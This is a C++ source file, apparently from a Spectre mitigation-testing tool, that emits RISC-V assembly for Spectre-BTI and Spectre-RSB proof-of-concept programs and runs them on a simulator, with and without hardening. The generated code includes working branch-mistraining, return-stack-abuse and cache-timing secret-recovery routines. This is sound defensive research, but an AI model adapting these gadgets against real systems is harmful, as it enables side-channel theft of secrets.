#include "specshield/attack.hpp"

#include <algorithm>
#include <cmath>
#include <sstream>

#include <json.hpp>
#include "specshield/parser.hpp"

namespace specshield {

std::optional<PocVariant::Kind> variant_from_name(const std::string& name) {
  if (name == "v2-call" || name == "v2_call") return PocVariant::Kind::v2_call;
  if (name == "v2-jump" || name == "v2_jump") return PocVariant::Kind::v2_jump;
  if (name == "v5") return PocVariant::Kind::v5;
  return std::nullopt;
}

std::string variant_name(PocVariant::Kind kind) {
  switch (kind) {
    case PocVariant::Kind::v2_call: return "v2-call";
    case PocVariant::Kind::v2_jump: return "v2-jump";
    case PocVariant::Kind::v5: return "v5";
  }
  return "?";
}

HardenConfig matching_mitigation(PocVariant::Kind kind, IsaProfile isa) {
  HardenConfig config;
  config.isa = isa;
  switch (kind) {
    case PocVariant::Kind::v2_call: config.calls = true; break;
    case PocVariant::Kind::v2_jump: config.jumps = true; break;
    case PocVariant::Kind::v5: config.rsb = true; break;
  }
  return config;
}

namespace {

int log2_exact(int v) {
  int s = 0;
  while ((1 << s) < v) ++s;
  return s;
}

// Data segment shared by all variants. Cache-line-aligned arrays so a
// candidate byte maps to exactly one line of array2.
void emit_data(std::ostringstream& out, const PocVariant& v, const MachineConfig& c) {
  int shift = log2_exact(c.block_bytes);
  out << "\t.data\n"
      << "passInIdx:\n\t.dword\t0\n"
      << "attackPos:\n\t.dword\t0\n"
      << "\t.align\t" << shift << "\n"
      << "results:\n\t.zero\t2048\n"
      << "\t.align\t" << shift << "\n"
      << "array1:\n\t.byte\t1, 2, 3, 4, 5, 6, 7, 8, 9, 10\n"
      << "\t.align\t" << shift << "\n"
      << "secretString:\n\t.asciz\t\"" << v.secret << "\"\n"
      << "\t.align\t" << shift << "\n"
      << "array2:\n\t.zero\t" << 256 * c.block_bytes << "\n"
      << "\t.align\t" << shift << "\n"
      << "evbuf:\n\t.zero\t" << 4ll * c.cache_ways * c.cache_sets * c.block_bytes << "\n";
}

// Touch 4 * ways blocks per set so every prior line is evicted.
// Clobbers t0-t3.
void emit_evict(std::ostringstream& out, const MachineConfig& c) {
  out << "\tla\tt0, evbuf\n"
      << "\tli\tt1, " << 4 * c.cache_ways * c.cache_sets << "\n"
      << "\tli\tt2, 0\n"
      << "evict_loop:\n"
      << "\tlbu\tt3, 0(t0)\n"
      << "\taddi\tt0, t0, " << c.block_bytes << "\n"
      << "\taddi\tt2, t2, 1\n"
      << "\tblt\tt2, t1, evict_loop\n";
}

// Time a reload of every array2 candidate line and store the deltas to
// results[]. Clobbers t0-t5, s4-s6.
void emit_reload(std::ostringstream& out, const MachineConfig& c) {
  int shift = log2_exact(c.block_bytes);
  out << "reload:\n";
  // Padding: a squashed transient path that runs past the attack call site
  // must exhaust its window before reaching the timed loads below, or the
  // probe would prime its own hits.
  for (int i = 0; i < 12; ++i) out << "\tnop\n";
  out << "\tli\ts4, 0\n"
      << "\tla\ts5, array2\n"
      << "\tla\ts6, results\n"
      << "reload_loop:\n"
      << "\tslli\tt0, s4, " << shift << "\n"
      << "\tadd\tt0, s5, t0\n"
      << "\trdcycle\tt1\n"
      << "\tlbu\tt2, 0(t0)\n"
      << "\trdcycle\tt3\n"
      << "\tsub\tt3, t3, t1\n"
      << "\tslli\tt4, s4, 3\n"
      << "\tadd\tt4, s6, t4\n"
      << "\tsd\tt3, 0(t4)\n"
      << "\taddi\ts4, s4, 1\n"
      << "\tli\tt5, 256\n"
      << "\tblt\ts4, t5, reload_loop\n"
      << "\tli\ta0, 0\n"
      << "\tli\ta7, 93\n"
      << "\tecall\n";
}

// Out-of-bounds index so that array1[idx] is secretString[attackPos].
// Leaves the index in t5. Clobbers t4, t5.
void emit_attack_index(std::ostringstream& out) {
  out << "\tla\tt4, attackPos\n"
      << "\tld\tt4, 0(t4)\n"
      << "\tla\tt5, secretString\n"
      << "\tadd\tt5, t5, t4\n"
      << "\tla\tt4, array1\n"
      << "\tsub\tt5, t5, t4\n";
}

// The bounds-free gadget body: y = array2[array1[passInIdx] << shift].
void emit_gadget(std::ostringstream& out, const MachineConfig& c) {
  int shift = log2_exact(c.block_bytes);
  out << "\tla\tt4, passInIdx\n"
      << "\tld\tt4, 0(t4)\n"
      << "\tla\tt5, array1\n"
      << "\tadd\tt5, t5, t4\n"
      << "\tlbu\tt5, 0(t5)\n"
      << "\tslli\tt5, t5, " << shift << "\n"
      << "\tla\tt6, array2\n"
      << "\tadd\tt6, t6, t5\n"
      << "\tlbu\tt6, 0(t6)\n";
}

void emit_prologue(std::ostringstream& out, int frame) {
  out << "\taddi\tsp, sp, -" << frame << "\n"
      << "\tsd\tra, " << frame - 8 << "(sp)\n"
      << "\tsd\tfp, " << frame - 16 << "(sp)\n"
      << "\taddi\tfp, sp, " << frame << "\n";
}

void emit_epilogue(std::ostringstream& out, int frame) {
  out << "\tld\tfp, " << frame - 16 << "(sp)\n"
      << "\tld\tra, " << frame - 8 << "(sp)\n"
      << "\taddi\tsp, sp, " << frame << "\n"
      << "\tret\n";
}

// Spectre-BTI drivers: one polymorphic branch site, trained on the benign
// target for `mistrain` rounds, then steered with the malicious index.
std::string build_v2(const PocVariant& v, const MachineConfig& c, bool call_flavor) {
  std::ostringstream out;
  out << "\t.text\n"
      << "\t.globl\tmain\n"
      << "\t.type\tmain, @function\n";
  if (call_flavor)
    out << "\t.type\tvictimFunc, @function\n"
        << "\t.type\twantFunc, @function\n";
  out << "main:\n";
  emit_prologue(out, 16);
  out << "\tli\ts1, 0\n"                       // round counter
      << "\tli\ts2, " << v.mistrain << "\n"    // attack round
      << "\tli\ts3, 0\n"                       // in-bounds training index
      << "loop_top:\n"
      << "\tbeq\ts1, s2, attack_iter\n"
      << "\tla\tt4, passInIdx\n"
      << "\tsd\ts3, 0(t4)\n"
      << "\taddi\ts3, s3, 1\n"
      << "\tli\tt4, 10\n"
      << "\tblt\ts3, t4, train_nowrap\n"
      << "\tli\ts3, 0\n"
      << "train_nowrap:\n"
      << "\tla\tt0, " << (call_flavor ? "victimFunc" : "victimSnippet") << "\n"
      << "\tj\tbranch_site\n"
      << "attack_iter:\n";
  emit_evict(out, c);
  emit_attack_index(out);
  out << "\tla\tt4, passInIdx\n"
      << "\tsd\tt5, 0(t4)\n"
      << "\tla\tt0, " << (call_flavor ? "wantFunc" : "wantSnippet") << "\n"
      << "branch_site:\n"
      << (call_flavor ? "\tjalr\tt0\n" : "\tjr\tt0\n");
  if (!call_flavor) out << "end:\n";
  out << "\taddi\ts1, s1, 1\n"
      << "\tli\tt4, " << v.mistrain + 1 << "\n"
      << "\tblt\ts1, t4, loop_top\n";
  emit_reload(out, c);

  if (call_flavor) {
    out << "victimFunc:\n";
    emit_prologue(out, 16);
    emit_gadget(out, c);
    emit_epilogue(out, 16);
    out << "wantFunc:\n";
    emit_prologue(out, 16);
    out << "\tnop\n";
    emit_epilogue(out, 16);
  } else {
    out << "victimSnippet:\n";
    emit_gadget(out, c);
    out << "\tj\tend\n"
        << "wantSnippet:\n"
        << "\tnop\n"
        << "\tj\tend\n";
  }
  return out.str();
}

// Spectre-RSB driver: frameDump rewrites its caller's stacked return
// address, so the architectural return diverges from the RAS prediction
// and the gadget after the call site runs transiently.
std::string build_v5(const PocVariant& v, const MachineConfig& c) {
  std::ostringstream out;
  out << "\t.text\n"
      << "\t.globl\tmain\n"
      << "\t.type\tmain, @function\n"
      << "\t.type\tspecFunc, @function\n"
      << "\t.type\tframeDump, @function\n"
      << "main:\n";
  emit_prologue(out, 16);
  emit_evict(out, c);
  out << "\tla\tt4, attackPos\n"
      << "\tld\tt4, 0(t4)\n"
      << "\tla\ta0, secretString\n"
      << "\tadd\ta0, a0, t4\n"
      << "\tla\tt0, specFunc\n"
      << "\tjalr\tt0\n";
  emit_reload(out, c);
  (void)v;
  int shift = log2_exact(c.block_bytes);
  out << "specFunc:\n";
  emit_prologue(out, 64);
  out << "\tcall\tframeDump\n"
      // never reached architecturally; the RAS predicts it after the call
      << "\tlbu\tt4, 0(a0)\n"
      << "\tslli\tt4, t4, " << shift << "\n"
      << "\tla\tt5, array2\n"
      << "\tadd\tt5, t5, t4\n"
      << "\tlbu\tt5, 0(t5)\n"
      << "spin:\n"
      << "\tj\tspin\n"
      << "frameDump:\n";
  emit_prologue(out, 16);
  // specFunc's frame sits 16 bytes above ours: its ra slot is 72(sp).
  // Return straight to main with both frames popped.
  out << "\tld\tra, 72(sp)\n"
      << "\taddi\tsp, sp, 80\n"
      << "\tld\tfp, -16(sp)\n"
      << "\tret\n";
  return out.str();
}

}  // namespace

AsmUnit build_poc(const PocVariant& variant, const MachineConfig& config) {
  config.validate();
  if (variant.secret.empty()) throw AsmError("poc secret must not be empty");
  for (char ch : variant.secret)
    if (ch < 0x20 || ch > 0x7e || ch == '"' || ch == '\\')
      throw AsmError("poc secret must be plain printable ascii");
  if (variant.mistrain < 1) throw AsmError("poc mistrain rounds must be >= 1");

  std::ostringstream out;
  switch (variant.kind) {
    case PocVariant::Kind::v2_call: out << build_v2(variant, config, true); break;
    case PocVariant::Kind::v2_jump: out << build_v2(variant, config, false); break;
    case PocVariant::Kind::v5: out << build_v5(variant, config); break;
  }
  emit_data(out, variant, config);
  return parse_unit(out.str(), variant_name(variant.kind) + ".s");
}

int CharOutcome::modal_count() const {
  int best = 0;
  for (const auto& [_, n] : guesses) best = std::max(best, n);
  return best;
}

std::optional<int> CharOutcome::modal_byte() const {
  std::optional<int> best;
  int best_n = 0;
  for (const auto& [b, n] : guesses)
    if (n > best_n) { best = b; best_n = n; }
  return best;
}

std::string AttackOutcome::transcript() const {
  std::ostringstream out;
  std::string guessed;
  for (size_t i = 0; i < per_char.size(); ++i) {
    const auto& pos = per_char[i];
    auto byte = pos.modal_byte();
    char shown = byte && *byte >= 0x20 && *byte <= 0x7e ? char(*byte) : '?';
    out << "The attacker guessed character " << (byte ? std::string(1, shown) : "?")
        << " " << pos.modal_count() << " times.\n";
    if (i < recovered.size() && recovered[i] != '?') guessed += recovered[i];
  }
  out << "The guessed secret is " << guessed << "\n";
  return out.str();
}

std::string AttackOutcome::to_json() const {
  nlohmann::json j;
  j["variant"] = variant_name(variant);
  j["mitigated"] = mitigated;
  j["recovered"] = recovered;
  auto& chars = j["per_char"];
  chars = nlohmann::json::array();
  for (const auto& pos : per_char) {
    nlohmann::json c;
    c["expected"] = std::string(1, pos.expected);
    for (const auto& [b, n] : pos.guesses)
      c["guesses"][std::to_string(b)] = n;
    if (pos.guesses.empty()) c["guesses"] = nlohmann::json::object();
    chars.push_back(c);
  }
  return j.dump(2);
}

AttackOutcome run_attack(const PocVariant& variant, const MachineConfig& config,
                         const std::optional<HardenConfig>& harden,
                         const std::function<void(const Machine&, const Program&)>& observer) {
  AsmUnit unit = build_poc(variant, config);
  if (harden) unit = harden_unit(unit, *harden).unit;
  auto program = std::make_shared<const Program>(
      unit, config, harden ? harden->isa : IsaProfile::rv64gc);

  auto pos_slot = program->symbol("attackPos");
  auto results = program->symbol("results");
  if (!pos_slot || !results) throw AsmError("poc is missing harness symbols");

  const int limit = threshold(config);
  AttackOutcome outcome;
  outcome.variant = variant.kind;
  outcome.mitigated = harden.has_value();

  for (size_t pos = 0; pos < variant.secret.size(); ++pos) {
    CharOutcome per_pos;
    per_pos.expected = variant.secret[pos];
    for (int trial = 0; trial < variant.trials_per_char; ++trial) {
      Machine m(program);
      m.write_dword(*pos_slot, pos);
      RunResult res = m.run();
      if (res.status != RunStatus::halted)
        throw AsmError("poc run did not halt (" + variant_name(variant.kind) + ")");
      std::optional<int> guess;
      uint64_t best = ~0ull;
      for (int c = 0; c < 256; ++c) {
        uint64_t delta = m.read_dword(*results + 8 * c);
        if (delta < uint64_t(limit) && delta < best) { best = delta; guess = c; }
      }
      if (guess) ++per_pos.guesses[*guess];
      if (observer) observer(m, *program);
    }
    auto byte = per_pos.modal_byte();
    bool confident = byte && per_pos.modal_count() * 2 > variant.trials_per_char;
    outcome.recovered += confident ? char(*byte) : '?';
    outcome.per_char.push_back(std::move(per_pos));
  }
  return outcome;
}

}  // namespace specshield
